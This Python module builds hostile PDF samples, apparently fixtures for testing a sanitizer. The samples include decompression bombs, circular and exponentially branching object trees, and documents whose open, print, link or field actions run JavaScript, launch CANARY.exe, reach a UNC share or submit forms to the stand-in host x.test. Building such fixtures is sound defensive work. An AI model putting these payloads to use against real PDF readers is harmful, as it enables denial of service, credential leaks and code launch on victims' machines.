"""PDFs made to hurt: each a few bytes that ask for endless work, or for something to be started."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping
from functools import cache

_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Resources<<>>%s>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def raw(objects: Mapping[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects; number 1 is its catalog."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 00000 f \n"
    return bytes(out + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start))


def one_page(catalog: bytes = b"", page: bytes = b"", more: Mapping[int, bytes] | None = None) -> bytes:
    """One empty page; catalog, page: further entries of theirs. more: further objects, from number 4."""
    root = b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog
    return raw({1: root, 2: _PAGES, 3: _PAGE % page, **(more or {})})


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), entries, content)


@cache
def bomb(megabytes: int, layers: int = 1) -> tuple[bytes, bytes]:
    """(packed zeros, the filters that unpack them)."""
    packer = zlib.compressobj(1)
    packed = b"".join(packer.compress(b"\0" * (1 << 20)) for _ in range(megabytes)) + packer.flush()
    for _ in range(layers - 1):
        packed = zlib.compress(packed, 9)
    return packed, b"[" + b"/FlateDecode" * layers + b"]"


def _object_stream_bomb() -> bytes:
    packed, filters = bomb(1000)
    body = stream(packed, b"/Type/ObjStm/N 1/First 10/Filter%s" % filters)
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    root = b"<</Type/Catalog/Pages 2 0 R/Outlines 9 0 R>>"
    for number, content in {1: root, 2: _PAGES, 3: _PAGE % b"", 4: body}.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    rows = [b"\0\0\0\0\0\0"] * 10
    for number, place in places.items():
        rows[number] = b"\1" + place.to_bytes(4, "big") + b"\0"
    rows[9] = b"\2" + (4).to_bytes(4, "big") + b"\0"
    table = b"".join(rows)
    entries = b"/Type/XRef/Size 10/W[1 4 1]/Root 1 0 R"
    out += b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(table, entries), start)
    return bytes(out)


def _laughs(kind: bytes) -> dict[int, bytes]:
    """Objects 10 to 50: each refers ten times to the next, as the kids of a tree."""
    found = {n: b"<<%s[%s]>>" % (kind, b"%d 0 R " % (n + 1) * 10) for n in range(10, 50)}
    return {**found, 50: b"<</S/P/T(x)/Title(x)>>"}


def _chain(count: int, link: bytes, first: int = 10) -> dict[int, bytes]:
    """Objects that each refer to the next, `count` of them."""
    return {n: b"<</Title(x)%s %d 0 R>>" % (link, n + 1) for n in range(first, first + count)} | {
        first + count: b"<</Title(x)>>"
    }


ENDLESS: dict[str, Callable[[], bytes]] = {
    "page tree in a circle": lambda: raw(
        {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}
    ),
    "page tree of a billion": lambda: raw(
        {1: b"<</Type/Catalog/Pages 10 0 R>>", **_laughs(b"/Type/Pages/Count 1/Kids"), 50: _PAGE % b""}
    ),
    "parents in a circle": lambda: raw(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1/Parent 4 0 R>>",
            3: b"<</Type/Page/Parent 2 0 R>>",
            4: b"<</Type/Pages/Parent 2 0 R>>",
        }
    ),
    "a million pages said": lambda: raw(
        {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 999999999>>", 3: _PAGE % b""}
    ),
    "arrays in arrays": lambda: one_page(b"/X 4 0 R", more={4: b"[" * 2_000_000}),
    "dictionaries in dictionaries": lambda: one_page(b"/X 4 0 R", more={4: b"<</A" * 500_000 + b"1" + b">>" * 500_000}),
    "outline in a circle": lambda: one_page(
        b"/Outlines 4 0 R", more={4: b"<</First 5 0 R>>", 5: b"<</Title(x)/Next 5 0 R/First 4 0 R/Parent 4 0 R>>"}
    ),
    "outline of a billion": lambda: one_page(b"/Outlines 10 0 R", more=_laughs(b"/First 50 0 R/X")),
    "outline without end": lambda: one_page(
        b"/Outlines 9 0 R", more={9: b"<</First 10 0 R>>", **_chain(20_000, b"/Next")}
    ),
    "outline without bottom": lambda: one_page(
        b"/Outlines 9 0 R", more={9: b"<</First 10 0 R>>", **_chain(20_000, b"/First")}
    ),
    "names of a billion": lambda: one_page(b"/Names<</Dests 10 0 R>>", more=_laughs(b"/Kids")),
    "fields of a billion": lambda: one_page(b"/AcroForm<</Fields[10 0 R]>>", more=_laughs(b"/Kids")),
    "structure of a billion": lambda: one_page(b"/StructTreeRoot 10 0 R", more=_laughs(b"/K")),
    "structure in a circle": lambda: one_page(
        b"/StructTreeRoot 4 0 R",
        b"/StructParents 0",
        {4: b"<</K 5 0 R/ParentTree 4 0 R>>", 5: b"<</S/P/K 5 0 R/P 5 0 R>>"},
    ),
    "labels of absurd numbers": lambda: one_page(
        b"/PageLabels<</Nums[0<</S/D/St 99999999999999999999>> -5<</S/Q>> 9999999999 3 0 R]>>",
        b"/StructParents 99999999999999999999",
    ),
    "an action after itself": lambda: one_page(
        b"/OpenAction 4 0 R",
        more={4: b"<</S/GoTo/D[3 0 R/Fit]/Next[4 0 R 4 0 R 5 0 R]>>", 5: b"<</S/Launch/Next 4 0 R>>"},
    ),
    "packed zeros as metadata": lambda: one_page(
        b"/Metadata 4 0 R", more={4: stream((b := bomb(450))[0], b"/Type/Metadata/Filter" + b[1])}
    ),
    "packed zeros, packed again, as content": lambda: one_page(
        b"", b"/Contents 4 0 R", {4: stream((b := bomb(100, 3))[0], b"/Filter" + b[1])}
    ),
    "packed zeros as objects": _object_stream_bomb,
    "forms that draw themselves": lambda: one_page(
        b"/StructTreeRoot<<>>",
        b"/Resources<</XObject<</A 4 0 R>>>>/Contents 5 0 R",
        {
            4: stream(b"/A Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A 4 0 R/B 4 0 R>>>>"),
            5: stream(b"/A Do"),
        },
    ),
    "a page of absurd size": lambda: raw(
        {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: _PAGES, 3: b"<</Type/Page/MediaBox[0 0 1e38 (x)]/Rotate/Left>>"}
    ),
    "everything of the wrong type": lambda: one_page(
        b"/Names 3/Dests[1]/Outlines(x)/AcroForm[4]/OCProperties 1/StructTreeRoot/X/PageLabels[1]/AF 3/Threads<<>>"
        b"/Metadata(x)/Lang[1]/MarkInfo 5/OpenAction 7/AA(x)/Perms 1",
        b"/Annots<</A 1>>/AA[1]/B 3/StructParents/X/Resources[2]",
    ),
    "annotations of the wrong type": lambda: one_page(
        b"/AcroForm<</Fields[1(x)<</T[1]/Kids 3/FT 1/V<<>>>>4 0 R]/CO(x)/DR[1]/DA 5/SigFlags(x)>>",
        b"/Annots[1(x)null[2]<</Subtype 5/A 3/Dest<<>>/AA(x)/Parent 7>>4 0 R<</Subtype/Widget/Parent 4 0 R>>]",
        {4: b"<</Subtype/Widget/FT/Sig/V<</Name 5/M[1]>>/AP 3/F(x)/Parent 4 0 R/Kids[4 0 R]/T(x)>>"},
    ),
}
"""What asks for endless time or memory, or is not what it should be."""

_SCRIPT = b"<</S/JavaScript/JS(app.launchURL\\('http://x.test/'\\);//CANARY)>>"
_LAUNCH = b"<</S/Launch/F(CANARY.exe)/Win<</F(CANARY.exe)>>>>"
_REACH = b"<</S/GoToR/F(\\\\\\\\x.test\\\\CANARY)/D[0/Fit]>>"
_SUBMIT = b"<</S/SubmitForm/F(http://x.test/CANARY)>>"
_IMPORT = b"<</S/ImportData/F(CANARY)>>"

STARTING: dict[str, Callable[[], bytes]] = {
    **{
        f"{name} when opened": (lambda action=action: one_page(b"/OpenAction" + action))  # type: ignore[misc]
        for name, action in (("script", _SCRIPT), ("program", _LAUNCH), ("share", _REACH), ("form sent", _SUBMIT))
    },
    "script by name": lambda: one_page(b"/Names<</JavaScript<</Names[(a)%s]>>>>" % _SCRIPT),
    "script when printed or closed": lambda: one_page(b"/AA<</WP%s/WC%s>>" % (_SCRIPT, _LAUNCH)),
    "script when a page is shown": lambda: one_page(b"", b"/AA<</O%s/C%s>>" % (_SCRIPT, _SUBMIT)),
    "program behind a harmless step": lambda: one_page(
        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[%s%s]>>" % (_LAUNCH, _SCRIPT)
    ),
    "program behind a link": lambda: one_page(b"", b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A%s>>]" % _LAUNCH),
    "script in an address": lambda: one_page(
        b"", b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI( JavaScript:CANARY)>>>>]"
    ),
    "script in a field": lambda: one_page(
        b"/AcroForm<</Fields[4 0 R]>>",
        b"/Annots[4 0 R]",
        {
            4: b"<</Subtype/Widget/FT/Tx/T(t)/Rect[0 0 9 9]/A%s/AA<</E%s/C%s/K%s>>>>"
            % (_IMPORT, _SCRIPT, _SCRIPT, _SUBMIT)
        },
    ),
    "script in a field without a place": lambda: one_page(
        b"/AcroForm<</Fields[4 0 R]/CO[4 0 R]>>",
        b"/Annots[5 0 R]",
        {
            4: b"<</FT/Tx/T(t)/Kids[5 0 R]/AA<</C<</S/JavaScript/JS 6 0 R>>>>>>",
            5: b"<</Subtype/Widget/Parent 4 0 R/Rect[0 0 9 9]>>",
            6: stream(b"AFNumber_Format(1);CANARY()"),
        },
    ),
    "program in the outline": lambda: one_page(
        b"/Outlines 4 0 R",
        more={4: b"<</First 5 0 R/Last 5 0 R/Count 1>>", 5: b"<</Title(x)/Parent 4 0 R/A%s>>" % _LAUNCH},
    ),
}
"""What runs or starts something. Each has the word CANARY where nothing of it may be left."""
